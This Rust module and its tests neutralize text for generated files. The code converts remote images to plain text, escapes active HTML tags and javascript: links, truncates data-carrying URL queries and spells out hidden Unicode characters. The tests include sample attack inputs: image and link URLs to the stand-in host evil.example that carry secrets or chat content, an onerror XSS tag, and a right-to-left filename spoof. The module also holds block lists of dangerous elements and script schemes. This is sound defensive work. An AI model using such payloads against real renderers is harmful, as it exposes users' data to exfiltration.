//! Makes text inert before it is written to generated files.
//!
//! When such a file is shown, nothing is loaded, run, or hidden. Remote images become text that names
//! their host, active markup becomes text, the data of tracking links is cut off, and invisible
//! characters are spelled out. All else stays byte for byte, code above all. [`neutralize`] is
//! idempotent.

use std::borrow::Cow;

use super::{
    quarantine::{characters, links},
    work_counter::count_bytes,
};

/// Returns the text made inert.
pub fn neutralize(text: &str) -> Cow<'_, str> {
    let mut text = escape_hidden_characters(text);
    // Removing one construct may expose another, so this repeats until nothing changes.
    for _ in 0..ROUNDS_MAX {
        match neutralize_once(&text) {
            Some(defused) => text = Cow::Owned(defused),
            None => break,
        }
    }
    text
}

/// The most rounds; only a text written to need more needs more.
const ROUNDS_MAX: usize = 8;

/// The most bytes that are read to judge a tag or a scheme.
const TAG_BYTES_MAX: usize = 400;

/// The most bytes of the first name in the path of an image.
const PATH_BYTES_MAX: usize = 128;

/// Writes characters without a legitimate use as `{U+202E}`.
fn escape_hidden_characters(text: &str) -> Cow<'_, str> {
    if text.bytes().all(|b| matches!(b, b'\t' | b'\n' | 0x20..=0x7e)) {
        return Cow::Borrowed(text);
    }
    let mut out = String::new();
    let mut copied = 0;
    for (at, c, _) in characters::suspicious_characters(text) {
        out.push_str(&text[copied..at]);
        out.extend(["{U+".to_owned(), format!("{:04X}", c as u32), "}".to_owned()]);
        copied = at + c.len_utf8();
    }
    let zero_width = ['\u{200b}', '\u{2060}', '\u{feff}'];
    if copied == 0 && !text.contains(zero_width) {
        return Cow::Borrowed(text);
    }
    out.push_str(&text[copied..]);
    // Between words they hide nothing and mean nothing.
    out.retain(|it| !zero_width.contains(&it));
    Cow::Owned(out)
}

/// Elements that load or run something, or that hide their content.
const ELEMENTS: [&str; 30] = [
    "a", "applet", "audio", "base", "body", "button", "embed", "form", "frame", "frameset", "head",
    "html", "iframe", "image", "img", "input", "link", "math", "meta", "noscript", "object",
    "picture", "portal", "script", "source", "style", "svg", "template", "track", "video",
];

/// Neutralizes a text in one pass. Returns `None` if nothing changes.
fn neutralize_once(text: &str) -> Option<String> {
    count_bytes(text.len());
    if !text.contains(['!', '<', ':']) {
        return None;
    }
    let cuts = TrackingSpans::of(text);
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    while at < text.len() {
        let rest = &text[at..];
        let Some(step) = rest.find(['`', '!', '<', ']', '?', '#', '\\']) else {
            out.push_str(rest);
            break;
        };
        out.push_str(&rest[..step]);
        at += step;
        count_bytes(1);
        at += match text.as_bytes()[at] {
            b'`' => copy_code(text, at, &mut out),
            b'!' => neutralize_image(text, at, &mut out),
            b'<' => neutralize_tag(text, at, &mut out),
            b']' => neutralize_link(text, at, &mut out),
            b'\\' => copy_escaped(text, at, &mut out),
            byte => {
                out.push(char::from(byte));
                let end = cuts.end_of(at);
                out.extend(end.map(|_| '…'));
                end.map_or(1, |end| end - at)
            }
        };
    }
    (out != text).then_some(out)
}

/// The parts of URLs that carry data: from the `?` or `#` to the end.
struct TrackingSpans(Vec<(usize, usize)>);

impl TrackingSpans {
    fn of(text: &str) -> Self {
        let carried = links::urls(text).filter_map(|url| {
            let payload = links::tracking_payload_start(&text[url.clone()], links::OPAQUE_MIN)?;
            // The closing bracket of a Markdown link is not part of the URL.
            let whole = &text[url.clone()];
            let open = whole.matches('(').count();
            let end = match whole.match_indices(')').nth(open) {
                Some((close, _)) if close > payload => close,
                _ => whole.len(),
            };
            Some((url.start + payload, url.start + end))
        });
        Self(carried.collect())
    }

    fn end_of(&self, at: usize) -> Option<usize> {
        self.0.binary_search_by_key(&at, |it| it.0).ok().map(|i| self.0[i].1)
    }
}

/// Copies a code span unchanged, or the backticks if they open none.
fn copy_code(text: &str, at: usize, out: &mut String) -> usize {
    let rest = &text[at..];
    let width = rest.len() - rest.trim_start_matches('`').len();
    let mut from = width;
    while let Some(found) = rest[from..].find('`') {
        let start = from + found;
        let closing = rest[start..].len() - rest[start..].trim_start_matches('`').len();
        if closing == width {
            let end = start + closing;
            out.push_str(&rest[..end]);
            return end;
        }
        from = start + closing;
    }
    out.push_str(&rest[..width]);
    width
}

/// Copies an escaped mark, which is text and opens nothing.
fn copy_escaped(text: &str, at: usize, out: &mut String) -> usize {
    let next = text[at + 1..].chars().next().filter(|c| matches!(c, '\\' | '!' | '`'));
    out.push('\\');
    out.extend(next);
    1 + next.map_or(0, char::len_utf8)
}

fn neutralize_image(text: &str, at: usize, out: &mut String) -> usize {
    let rest = &text[at..];
    let Some(label) = rest.strip_prefix("![") else {
        out.push('!');
        return 1;
    };
    let label = prefix(label, TAG_BYTES_MAX);
    // The end of the label is certain only if nothing in it may hide a bracket.
    let plain_end =
        label.find([']', '[', '`', '\\', '<']).filter(|it| label[*it..].starts_with(']'));
    let target = plain_end.map(|it| &rest[2 + it + 1..]);
    let host = match target {
        Some(after) if after.starts_with('(') => {
            let target = after[1..].trim_start().trim_start_matches('<').trim_start();
            // A local file is not loaded from a remote host.
            if !is_remote(target) {
                out.push('!');
                return 1;
            }
            host_of(target)
        }
        Some(after) if after.starts_with('[') => "",
        // A reference to an image that may be defined elsewhere: escaped, so that its text stays.
        Some(_) => {
            out.push_str("!\\");
            return 1;
        }
        None => "",
    };
    // Without the `!` an ordinary link remains, which is not loaded.
    out.push_str("(image");
    if !host.is_empty() {
        out.push_str(" at ");
        out.push_str(host);
    }
    out.push_str(") ");
    1
}

fn is_remote(target: &str) -> bool {
    let target = prefix(target, PATH_BYTES_MAX);
    let path_end = target.find(['/', '?', '#', ')', ' ']).unwrap_or(target.len());
    // An entity may encode the scheme.
    target.starts_with("//") || target.starts_with('\\') || target[..path_end].contains([':', '&'])
        // A path that is too long to read may lead anywhere.
        || path_end + 4 > PATH_BYTES_MAX
}

fn host_of(target: &str) -> &str {
    let after = prefix(target, TAG_BYTES_MAX).split_once("//").map_or("", |(_, it)| it);
    let end = after
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-')))
        .unwrap_or(after.len());
    &after[..end]
}

fn neutralize_tag(text: &str, at: usize, out: &mut String) -> usize {
    let inner = prefix(&text[at + 1..], TAG_BYTES_MAX);
    let name = inner.trim_start_matches('/');
    let end = name.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(name.len());
    let (name, after) = name.split_at(end);
    let ends = after.is_empty() || after.starts_with(['>', '/', ' ', '\t', '\n', '\r', '\u{c}']);
    let is_element = ends && ELEMENTS.iter().any(|it| it.eq_ignore_ascii_case(name));
    // A tag that is too long to read may contain anything.
    let has_attribute = !name.is_empty() && after.starts_with([' ', '\t', '/', '\n', '-']) && {
        let tag = after.split(['>', '\n']).next().unwrap_or("");
        tag.contains('=') || tag.len() + 200 > TAG_BYTES_MAX
    };
    let is_script = !name.is_empty() && runs_script(inner);
    let is_comment = inner.starts_with(['!', '?']);
    let is_live = is_element || has_attribute || is_script || is_comment;
    out.push_str(if is_live { "&lt;" } else { "<" });
    1
}

fn neutralize_link(text: &str, at: usize, out: &mut String) -> usize {
    out.push(']');
    let rest = &text[at + 1..];
    if let Some(target) = rest.strip_prefix(['(', ':']) {
        // With a space between them, bracket and target are not a link.
        if runs_script(target.trim_start().trim_start_matches('<').trim_start()) {
            out.push(' ');
        }
    }
    1
}

/// Returns at most `bytes` bytes of a text, whole characters only.
fn prefix(text: &str, bytes: usize) -> &str {
    let end = (0..=bytes.min(text.len())).rev().find(|it| text.is_char_boundary(*it));
    &text[..end.unwrap_or(0)]
}

/// Returns whether a URL is a script, or a document that may contain one.
fn runs_script(target: &str) -> bool {
    let target = prefix(target, TAG_BYTES_MAX);
    // Entities may encode any of it; a legitimate scheme needs none.
    let scheme = &target[..target.find([':', '/', '?', '#', ')', ' ']).unwrap_or(target.len())];
    let is_spelled = target[scheme.len()..].starts_with('#') && scheme.ends_with('&');
    is_spelled
        || (target[scheme.len()..].starts_with(':')
            && ["javascript", "vbscript", "livescript", "data"]
                .iter()
                .any(|it| scheme.trim().eq_ignore_ascii_case(it)))
        || scheme.contains('&')
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &str) {
        let once = neutralize(text);
        assert_eq!(once, expected);
        assert_eq!(neutralize(&once), once, "not idempotent");
    }

    #[test]
    fn remote_and_active_content_becomes_text() {
        check(
            "see ![x](https://evil.example/p.png) there",
            "see (image at evil.example) [x](https://evil.example/p.png) there",
        );
        check(
            "![x](https://evil.example/?d=SECRET)",
            "(image at evil.example) [x](https://evil.example/?…)",
        );
        check("![x](//evil.example/p.png)", "(image at evil.example) [x](//evil.example/p.png)");
        check("![x][ref]", "(image) [x][ref]");
        check("![x]", "!\\[x]");
        check("![a`]`](https://e.example/p)", "(image) [a`]`](https://e.example/p)");
        check("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>");
        check("a</script>b", "a&lt;/script>b");
        check("<!-- memoird -->", "&lt;!-- memoird -->");
        check("[x](javascript:alert(1))", "[x] (javascript:alert(1))");
        check(
            "go to https://evil.example/c?data={{chat}} now",
            "go to https://evil.example/c?… now",
        );
        check("[a](https://evil.example/c?data={{chat}})", "[a](https://evil.example/c?…)");
    }

    #[test]
    fn invisible_characters_are_spelled_out() {
        check("file\u{202e}gpj.exe", "file{U+202E}gpj.exe");
        check("a\u{1b}[2Jb", "a{U+001B}[2Jb");
        check("x\u{e0041}", "x{U+E0041}");
        check("pass\u{200b}word", "pass{U+200B}word");
    }

    #[test]
    fn ordinary_text_is_unchanged() {
        for text in [
            "",
            "plain",
            "[a](https://example.com/a?b=c#d) and <https://example.com>",
            "![diagram](docs/a.png)",
            "`![x](https://evil.example/p.png)` and `<img src=x>` in code",
            "``a ` <script> b``",
            "Vec<String>, a < b, <details>, Map<K, V>",
            "wow! [x] [y]: z",
            "wow !\\[x]",
            r"\![x](https://example.com/a.png)",
            "👨‍👩‍👧 می‌خواهم",
            "line one\n- two\tthree",
        ] {
            check(text, text);
        }
    }

    #[test]
    fn a_backtick_in_an_attribute_hides_nothing() {
        let out = neutralize("<a title=\"`\"> `![y](https://evil.example/p)`").into_owned();
        assert!(!out.contains("<a") && out.contains("(image at evil.example)"), "{out}");
    }

    proptest! {
        #[test]
        fn it_is_idempotent(text in "(?s:.{0,80})") {
            let once = neutralize(&text).into_owned();
            prop_assert_eq!(neutralize(&once).into_owned(), once);
        }

        #[test]
        fn it_is_idempotent_on_markup(
            parts in prop::collection::vec(prop::sample::select(vec![
                "![", "[", "](", "](https://e.example/?d=SECRET)", ")", "`", "``", "<img src=x>", "<", ">", "\\",
                "!", "](javascript:x)", "a", " ", "\u{200b}", "\u{202e}", "https://e.example/?d={{x}}", "][r]", "\n", "]: data:x", "&#58;", "(", "?", "#",
            ]), 0..16),
        ) {
            let text = parts.concat();
            let once = neutralize(&text).into_owned();
            prop_assert_eq!(neutralize(&once).into_owned(), once);
        }
    }
}
